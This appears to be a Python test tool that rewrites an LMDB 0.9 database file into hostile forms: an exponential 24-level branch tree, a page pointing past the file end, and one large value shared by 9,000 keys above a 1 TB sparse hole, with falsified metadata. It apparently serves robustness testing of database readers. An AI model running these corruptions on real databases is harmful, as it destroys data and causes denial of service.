#!/usr/bin/python3
"""Changes the file of a store (LMDB 0.9, data version 1) as whoever has a backup could.

    hostile_store.py bomb FILE TABLE    the table's pages become a tree of 24 levels, each of which leads 60 times to the next
    hostile_store.py more FILE TABLE    the same as bomb; and one more is said to be in it
    hostile_store.py end FILE TABLE     its only page leads far behind the end of the file
    hostile_store.py repeat FILE TABLE  its first value, one of many pages, stands under 9,000 keys; the file has a long hole
"""
import struct
import sys

PAGE, LEVELS, FAN = 4096, 24, 60
META, DBS, LAST = 16, 24, 24 + 96            # of a meta page: its contents, its two trees, its last page
TREE = struct.Struct("<IHHQQQQQ")            # pad, flags, depth, pages of three sorts, entries, root
BRANCH, LEAF, MANY_PAGES = 1, 2, 1
LEAVES, KEYS, HOLE = 60, 150, 1 << 40


def newest_meta(data):
    return max((0, 1), key=lambda i: struct.unpack_from("<Q", data, i * PAGE + META + LAST + 8)[0])


def find_table(data, name):
    """Where the description of a table stands: a value of the main tree, which has one page."""
    root = TREE.unpack_from(data, newest_meta(data) * PAGE + META + DBS + TREE.size)[-1] * PAGE
    for i in range((struct.unpack_from("<H", data, root + 12)[0] - 16) // 2):
        node = root + struct.unpack_from("<H", data, root + 16 + 2 * i)[0]
        length = struct.unpack_from("<H", data, node + 6)[0]
        if bytes(data[node + 8:node + 8 + length]) == name:
            return node + 8 + length
    sys.exit("no table %s" % name)


def branch(number, to):
    page, end = bytearray(PAGE), PAGE
    struct.pack_into("<QHH", page, 0, number, 0, BRANCH)
    for i in range(FAN):
        key = b"" if i == 0 else struct.pack(">I", i)
        end -= 8 + len(key)
        struct.pack_into("<HHHH", page, end, to & 0xffff, to >> 16 & 0xffff, to >> 32, len(key))
        page[end + 8:end + 8 + len(key)] = key
        struct.pack_into("<H", page, 16 + 2 * i, end)
    struct.pack_into("<HH", page, 12, 16 + 2 * FAN, end)
    return page


def big_value(data, root):
    """Length and first page of the first value of a tree that has one page."""
    node = root * PAGE + struct.unpack_from("<H", data, root * PAGE + 16)[0]
    low, high, flags, length = struct.unpack_from("<HHHH", data, node)
    if flags != MANY_PAGES:
        sys.exit("no value of many pages")
    return low | high << 16, struct.unpack_from("<Q", data, node + 8 + length)[0]


def leaf(number, first, length, value):
    page, end = bytearray(PAGE), PAGE
    struct.pack_into("<QHH", page, 0, number, 0, LEAF)
    for i in range(KEYS):
        end -= 24
        struct.pack_into("<HHHH", page, end, length & 0xffff, length >> 16, MANY_PAGES, 8)
        struct.pack_into(">Q", page, end + 8, first + i)
        struct.pack_into("<Q", page, end + 16, value)
        struct.pack_into("<H", page, 16 + 2 * i, end)
    struct.pack_into("<HH", page, 12, 16 + 2 * KEYS, end)
    return page


def repeat(data, first, root):
    """LEAVES pages, and one that leads to them."""
    length, value = big_value(data, root)
    page, end = bytearray(PAGE), PAGE
    struct.pack_into("<QHH", page, 0, first, 0, BRANCH)
    leaves = bytearray()
    for i in range(LEAVES):
        key, to = b"" if i == 0 else struct.pack(">Q", i * KEYS), first + 1 + i
        end -= 8 + len(key)
        struct.pack_into("<HHHH", page, end, to & 0xffff, to >> 16, 0, len(key))
        page[end + 8:end + 8 + len(key)] = key
        struct.pack_into("<H", page, 16 + 2 * i, end)
        leaves += leaf(to, i * KEYS, length, value)
    struct.pack_into("<HH", page, 12, 16 + 2 * LEAVES, end)
    return page + leaves


def main():
    what, path, name = sys.argv[1:]
    with open(path, "rb") as f:
        data = bytearray(f.read())
    at = find_table(data, name.encode())
    tree = list(TREE.unpack_from(data, at))
    first = len(data) // PAGE
    if what in ("bomb", "more"):
        for level in range(LEVELS):
            data += branch(first + level, first + level + 1 if level + 1 < LEVELS else tree[-1])
        tree[2], tree[6], tree[-1] = LEVELS + 1, tree[6] + (what == "more"), first
    elif what == "repeat":
        data += repeat(data, first, tree[-1])
        tree[2], tree[3], tree[4], tree[6], tree[-1] = 2, 1, LEAVES, LEAVES * KEYS, first
    else:
        data += branch(first, first + 100000)
        tree[2], tree[-1] = 2, first
    TREE.pack_into(data, at, *tree)
    for i in (0, 1):
        struct.pack_into("<Q", data, i * PAGE + META + LAST, len(data) // PAGE - 1 + (200000 if what == "end" else 0))
    with open(path, "wb") as f:
        f.write(data)
        if what == "repeat":
            f.truncate(HOLE)


main()
